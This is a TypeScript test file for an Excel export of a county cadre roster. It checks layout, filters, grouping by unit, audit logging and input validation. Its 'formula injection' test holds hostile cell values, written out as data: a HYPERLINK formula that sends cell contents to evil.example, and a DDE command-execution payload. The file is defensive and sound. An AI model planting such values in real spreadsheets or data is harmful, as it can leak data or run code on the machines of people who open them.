import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import type { CadreRow } from '../../main/domain/cadre'
import { ageAt, monthDots } from '../../main/domain/dates'
import { AppError } from '../../main/domain/errors'
import { CADRE_FIELDS, FIELD_BY_KEY, type CadreFieldKey } from '../../main/domain/fields'
import { exportRosterToBytes, exportRosterToFile, STANDARD_COLUMNS } from '../../main/export/roster'
import { RosterExportSchema } from '../../main/ipc/contract/export'
import { createExportHandlers } from '../../main/ipc/handlers/export'
import { listAudit } from '../../main/services/audit'
import type { AppContext } from '../../main/services/context'
import { queryCadres } from '../../main/services/cadres/query'
import { setSetting } from '../../main/services/settings'
import { EXPORT_DAY, freshContext, seedPeople, seedUnits, tempDir } from './export-seed'

const contexts: AppContext[] = []
function ctxWith(count: number, at = EXPORT_DAY): AppContext {
  const ctx = freshContext(at)
  contexts.push(ctx)
  seedUnits(ctx)
  seedPeople(ctx, count)
  return ctx
}
afterEach(() => {
  for (const c of contexts.splice(0)) c.db.close()
})

async function load(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook()
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer)
  const ws = wb.worksheets[0]
  if (!ws) throw new Error('no sheet')
  return ws
}

function rowTexts(ws: ExcelJS.Worksheet, r: number): unknown[] {
  const row = ws.getRow(r)
  const out: unknown[] = []
  for (let c = 1; c <= ws.columnCount; c++) {
    const v = row.getCell(c).value
    out.push(v === undefined ? null : v)
  }
  return out
}

function allRows(ctx: AppContext, q: Parameters<typeof queryCadres>[1]): CadreRow[] {
  return queryCadres(ctx, q).rows
}

/** What the export must show for a key of a row. */
function expected(row: CadreRow, key: string, at: string): string | number | null {
  if (key === 'age') return ageAt(row.birthDate, at)
  const v = (row as unknown as Record<string, string | null>)[key] ?? null
  if (v === null || v === '') return null
  return FIELD_BY_KEY.get(key as CadreFieldKey)?.kind === 'month' ? monthDots(v) : v
}

describe('roster export, standard layout 一人一行', () => {
  it('writes title, note, header and every field of every active person, text as text', async () => {
    const ctx = ctxWith(40)
    ctx.db.prepare(`UPDATE cadres SET status = '调出' WHERE id IN (3, 7)`).run()
    const r = await exportRosterToBytes(ctx, { query: {}, layout: 'per-row' })
    expect(r.fileName).toBe('某某县干部花名册_20261123.xlsx')
    expect(r.rows).toBe(38)
    const ws = await load(r.bytes)
    expect(ws.name).toBe('干部花名册')
    expect(ws.getCell('A1').value).toBe('某某县干部花名册（截至2026年11月）')
    expect(String(ws.getCell('A2').value)).toContain('共 38 人')
    expect(String(ws.getCell('A2').value)).toContain('导出日期：2026年11月23日')
    const header = rowTexts(ws, 3)
    expect(header[0]).toBe('序号')
    expect(header.slice(1)).toEqual(
      STANDARD_COLUMNS.map((k) => (k === 'age' ? '年龄' : FIELD_BY_KEY.get(k as CadreFieldKey)?.label)),
    )
    // Every canonical field is in the standard roster.
    for (const f of CADRE_FIELDS) expect(header).toContain(f.label)

    const people = allRows(ctx, { offset: 0, limit: 1000 })
    expect(people).toHaveLength(38)
    expect(ws.actualRowCount).toBe(3 + 38)
    people.forEach((p, i) => {
      const cells = rowTexts(ws, 4 + i)
      expect(cells[0]).toBe(i + 1)
      STANDARD_COLUMNS.forEach((k, j) => {
        expect(cells[j + 1], `row ${4 + i} ${k}`).toEqual(expected(p, k, EXPORT_DAY))
      })
      const idCell = ws.getRow(4 + i).getCell(STANDARD_COLUMNS.indexOf('idCard') + 2)
      expect(idCell.type).toBe(ExcelJS.ValueType.String)
      expect(idCell.numFmt).toBe('@')
    })
  })

  it('is ready to print: frozen header, widths, A4 landscape fitted to width, header repeated', async () => {
    const ctx = ctxWith(5)
    const ws = await load((await exportRosterToBytes(ctx, { query: {}, layout: 'per-row' })).bytes)
    const view = ws.views[0] as ExcelJS.WorksheetViewFrozen
    expect(view.state).toBe('frozen')
    expect(view.ySplit).toBe(3)
    expect(view.xSplit).toBe(2) // 序号 and 姓名 stay in view
    expect(ws.pageSetup.paperSize).toBe(9)
    expect(ws.pageSetup.orientation).toBe('landscape')
    expect(ws.pageSetup.fitToWidth).toBe(1)
    expect(ws.pageSetup.fitToHeight).toBe(0)
    expect(ws.pageSetup.printTitlesRow).toBe('1:3')
    expect(ws.getCell('A1').isMerged && ws.getCell('C1').isMerged).toBe(true)
    expect(ws.getCell('A1').font?.bold).toBe(true)
    expect(ws.getCell('B3').font?.bold).toBe(true)
    const idCol = ws.getColumn(STANDARD_COLUMNS.indexOf('idCard') + 2)
    expect(idCol.width).toBeGreaterThanOrEqual(19)
    for (let c = 1; c <= ws.columnCount; c++) expect(ws.getColumn(c).width).toBeGreaterThan(3)
    // Long text wraps on paper, and its row is made tall enough for it.
    const school = ws.getCell(4, STANDARD_COLUMNS.indexOf('schoolInService') + 2)
    expect(school.value).toBe('中共河南省委党校经济管理专业')
    expect(school.alignment?.wrapText).toBe(true)
    expect(ws.getRow(4).height).toBeGreaterThanOrEqual(27)
    expect(ws.getRow(3).height).toBeGreaterThanOrEqual(36) // 全日制教育 学历 wraps to three lines
  })

  it('takes the county from settings and computes ages at the export date', async () => {
    const ctx = ctxWith(12, '2027-01-05')
    setSetting(ctx, 'org.countyName', '温县')
    const r = await exportRosterToBytes(ctx, {
      query: {},
      columns: ['name', 'birthDate', 'age'],
      layout: 'per-row',
    })
    expect(r.fileName).toBe('温县干部花名册_20270105.xlsx')
    const ws = await load(r.bytes)
    expect(ws.getCell('A1').value).toBe('温县干部花名册（截至2027年1月）')
    for (let i = 4; i <= ws.actualRowCount; i++) {
      const birth = String(ws.getRow(i).getCell(2).value)
      expect(birth).toMatch(/^\d{4}\.\d{2}$/)
      expect(ws.getRow(i).getCell(3).value).toBe(ageAt(birth.replace('.', '-'), '2027-01-05'))
    }
  })
})

describe('roster export of the grid view', () => {
  it('holds exactly the rows of the filter, in the grid sort, and exactly the visible columns in order', async () => {
    const ctx = ctxWith(60)
    const query = {
      filters: {
        gender: { op: 'equals' as const, value: '女' },
        unit: { op: 'contains' as const, value: '财政' },
      },
      sort: [{ key: 'birthDate', dir: 'desc' as const }],
    }
    const columns = ['idCard', 'name', 'age', 'unit', 'partyJoinDate']
    const r = await exportRosterToBytes(ctx, { query, columns, layout: 'per-row' })
    const grid = allRows(ctx, { ...query, offset: 0, limit: 1000 })
    expect(grid.length).toBeGreaterThan(3)
    expect(r.rows).toBe(grid.length)
    const ws = await load(r.bytes)
    expect(rowTexts(ws, 3)).toEqual(['身份证号', '姓名', '年龄', '工作单位', '入党时间'])
    expect(ws.columnCount).toBe(5)
    expect(ws.actualRowCount).toBe(3 + grid.length)
    grid.forEach((p, i) => {
      expect(rowTexts(ws, 4 + i)).toEqual(columns.map((k) => expected(p, k, EXPORT_DAY)))
    })
    const view = ws.views[0] as ExcelJS.WorksheetViewFrozen
    expect(view.xSplit).toBe(2) // up to 姓名
  })

  it('follows the unit, search and status choices of the grid', async () => {
    const ctx = ctxWith(24)
    ctx.db.prepare(`UPDATE cadres SET status = '退休' WHERE id <= 4`).run()
    const finance = (ctx.db.prepare(`SELECT id FROM units WHERE name = '县财政局'`).get() as { id: number })
      .id
    const q = { unitId: finance, statuses: [] as string[] }
    const r = await exportRosterToBytes(ctx, {
      query: q,
      columns: ['name', 'unit', 'status'],
      layout: 'per-row',
    })
    const grid = allRows(ctx, { ...q, offset: 0, limit: 1000 })
    const ws = await load(r.bytes)
    expect(grid.some((p) => p.unit === '县财政局国库股')).toBe(true)
    expect(grid.some((p) => p.status === '退休')).toBe(true)
    expect(Array.from({ length: grid.length }, (_, i) => rowTexts(ws, 4 + i))).toEqual(
      grid.map((p) => [p.name, p.unit, p.status]),
    )
    expect(String(ws.getCell('A2').value)).toContain('范围：县财政局（含下属单位）')
    expect(String(ws.getCell('A2').value)).toContain('状态：全部')
  })

  it('refuses unknown columns with a Chinese message and writes nothing', async () => {
    const ctx = ctxWith(3)
    const out = join(tempDir(), 'x.xlsx')
    await expect(
      exportRosterToFile(ctx, out, { query: {}, columns: ['name', 'salary'], layout: 'per-row' }),
    ).rejects.toThrow(/未知的列：salary/)
    await expect(
      exportRosterToFile(ctx, out, { query: {}, columns: ['name', 'salary'], layout: 'per-row' }),
    ).rejects.toBeInstanceOf(AppError)
    expect(() => readFileSync(out)).toThrow()
  })
})

describe('roster export, 按机构分组', () => {
  it('writes a heading row per unit in the units tree order with its head count, the people below', async () => {
    const ctx = ctxWith(26)
    // One person without a unit comes first, under a note.
    ctx.db.prepare('UPDATE cadres SET unit_id = NULL WHERE id = 5').run()
    const r = await exportRosterToBytes(ctx, { query: {}, layout: 'by-unit' })
    expect(r.groups).toBe(5)
    expect(r.rows).toBe(26)
    expect(r.fileName).toBe('某某县干部花名册（按机构）_20261123.xlsx')
    const ws = await load(r.bytes)
    const unitCol = STANDARD_COLUMNS.indexOf('unit') + 2
    const groups: { label: string; members: string[] }[] = []
    let seq = 0
    for (let i = 4; i <= ws.actualRowCount; i++) {
      const a = ws.getRow(i).getCell(1)
      if (typeof a.value === 'string') {
        expect(a.isMerged).toBe(true)
        groups.push({ label: a.value, members: [] })
      } else {
        expect(a.value).toBe(++seq)
        groups.at(-1)?.members.push(String(ws.getRow(i).getCell(unitCol).value ?? ''))
      }
    }
    const counts = ctx.db
      .prepare(
        `SELECT u.name AS name, count(*) AS n FROM cadres c JOIN units u ON u.id = c.unit_id GROUP BY u.id`,
      )
      .all() as { name: string; n: number }[]
    const n = (name: string): number => counts.find((c) => c.name === name)?.n ?? 0
    expect(groups.map((g) => g.label)).toEqual([
      '说明：以下 1 人未填写工作单位',
      `县委办公室（${n('县委办公室')}人）`,
      `县财政局（${n('县财政局')}人）`,
      `县财政局国库股（${n('县财政局国库股')}人）`,
      `某某镇（${n('某某镇')}人）`,
    ])
    expect(groups[0]?.members).toEqual([''])
    for (const g of groups.slice(1)) {
      const unit = g.label.replace(/（\d+人）$/, '')
      expect(g.members.length).toBe(n(unit))
      expect(new Set(g.members)).toEqual(new Set([unit]))
    }
  })
})

describe('formula injection', () => {
  it('writes cells that begin with = + - @ as text, never as formulas', async () => {
    const ctx = freshContext()
    contexts.push(ctx)
    seedUnits(ctx)
    const evil = {
      position: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
      specialty: '+1+1',
      techTitle: '@SUM(1,2)',
      nativePlace: '-2+3',
      schoolFullTime: "=cmd|' /C calc'!A0",
    }
    seedPeople(ctx, 3, (i, p) => (i === 1 ? { ...p, ...evil } : p))
    const r = await exportRosterToBytes(ctx, { query: {}, layout: 'per-row' })
    const ws = await load(r.bytes)
    const row = ws.getRow(5)
    for (const [k, v] of Object.entries(evil)) {
      const cell = row.getCell(STANDARD_COLUMNS.indexOf(k) + 2)
      expect(cell.type, k).toBe(ExcelJS.ValueType.String)
      expect(cell.value, k).toBe(v)
      expect(cell.formula, k).toBeUndefined()
      expect(cell.numFmt, k).toBe('@')
    }
    const zip = await JSZip.loadAsync(r.bytes)
    const xml = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? ''
    expect(xml).toContain('HYPERLINK')
    expect(xml).not.toMatch(/<f[\s>]/)
  })
})

describe('export.roster channel', () => {
  it('validates the grid query and returns the file name and bytes', async () => {
    const ctx = ctxWith(8)
    const h = createExportHandlers(ctx)
    const arg = RosterExportSchema.parse({
      query: { search: '王', statuses: ['在职'], sort: [{ key: 'name', dir: 'asc' }] },
      columns: ['name', 'idCard'],
      layout: 'per-row',
    })
    const r = await h['export.roster'](arg)
    expect(r.fileName.endsWith('.xlsx')).toBe(true)
    const ws = await load(r.bytes)
    const grid = allRows(ctx, { ...arg.query, offset: 0, limit: 100 })
    expect(grid.length).toBeGreaterThan(0)
    expect(Array.from({ length: grid.length }, (_, i) => ws.getRow(4 + i).getCell(1).value)).toEqual(
      grid.map((p) => p.name),
    )
    // The export of personal data is in the audit log.
    const audit = listAudit(ctx, {}).entries.find((e) => e.action === 'export')
    expect(audit?.summary).toBe(`导出干部花名册（当前视图，${grid.length} 人，2 列）：${r.fileName}`)
    expect(audit?.actor).toBe('test')
    expect(RosterExportSchema.safeParse({ query: {}, columns: [], layout: 'per-row' }).success).toBe(false)
    expect(RosterExportSchema.safeParse({ query: {}, layout: 'sideways' }).success).toBe(false)
  })
})
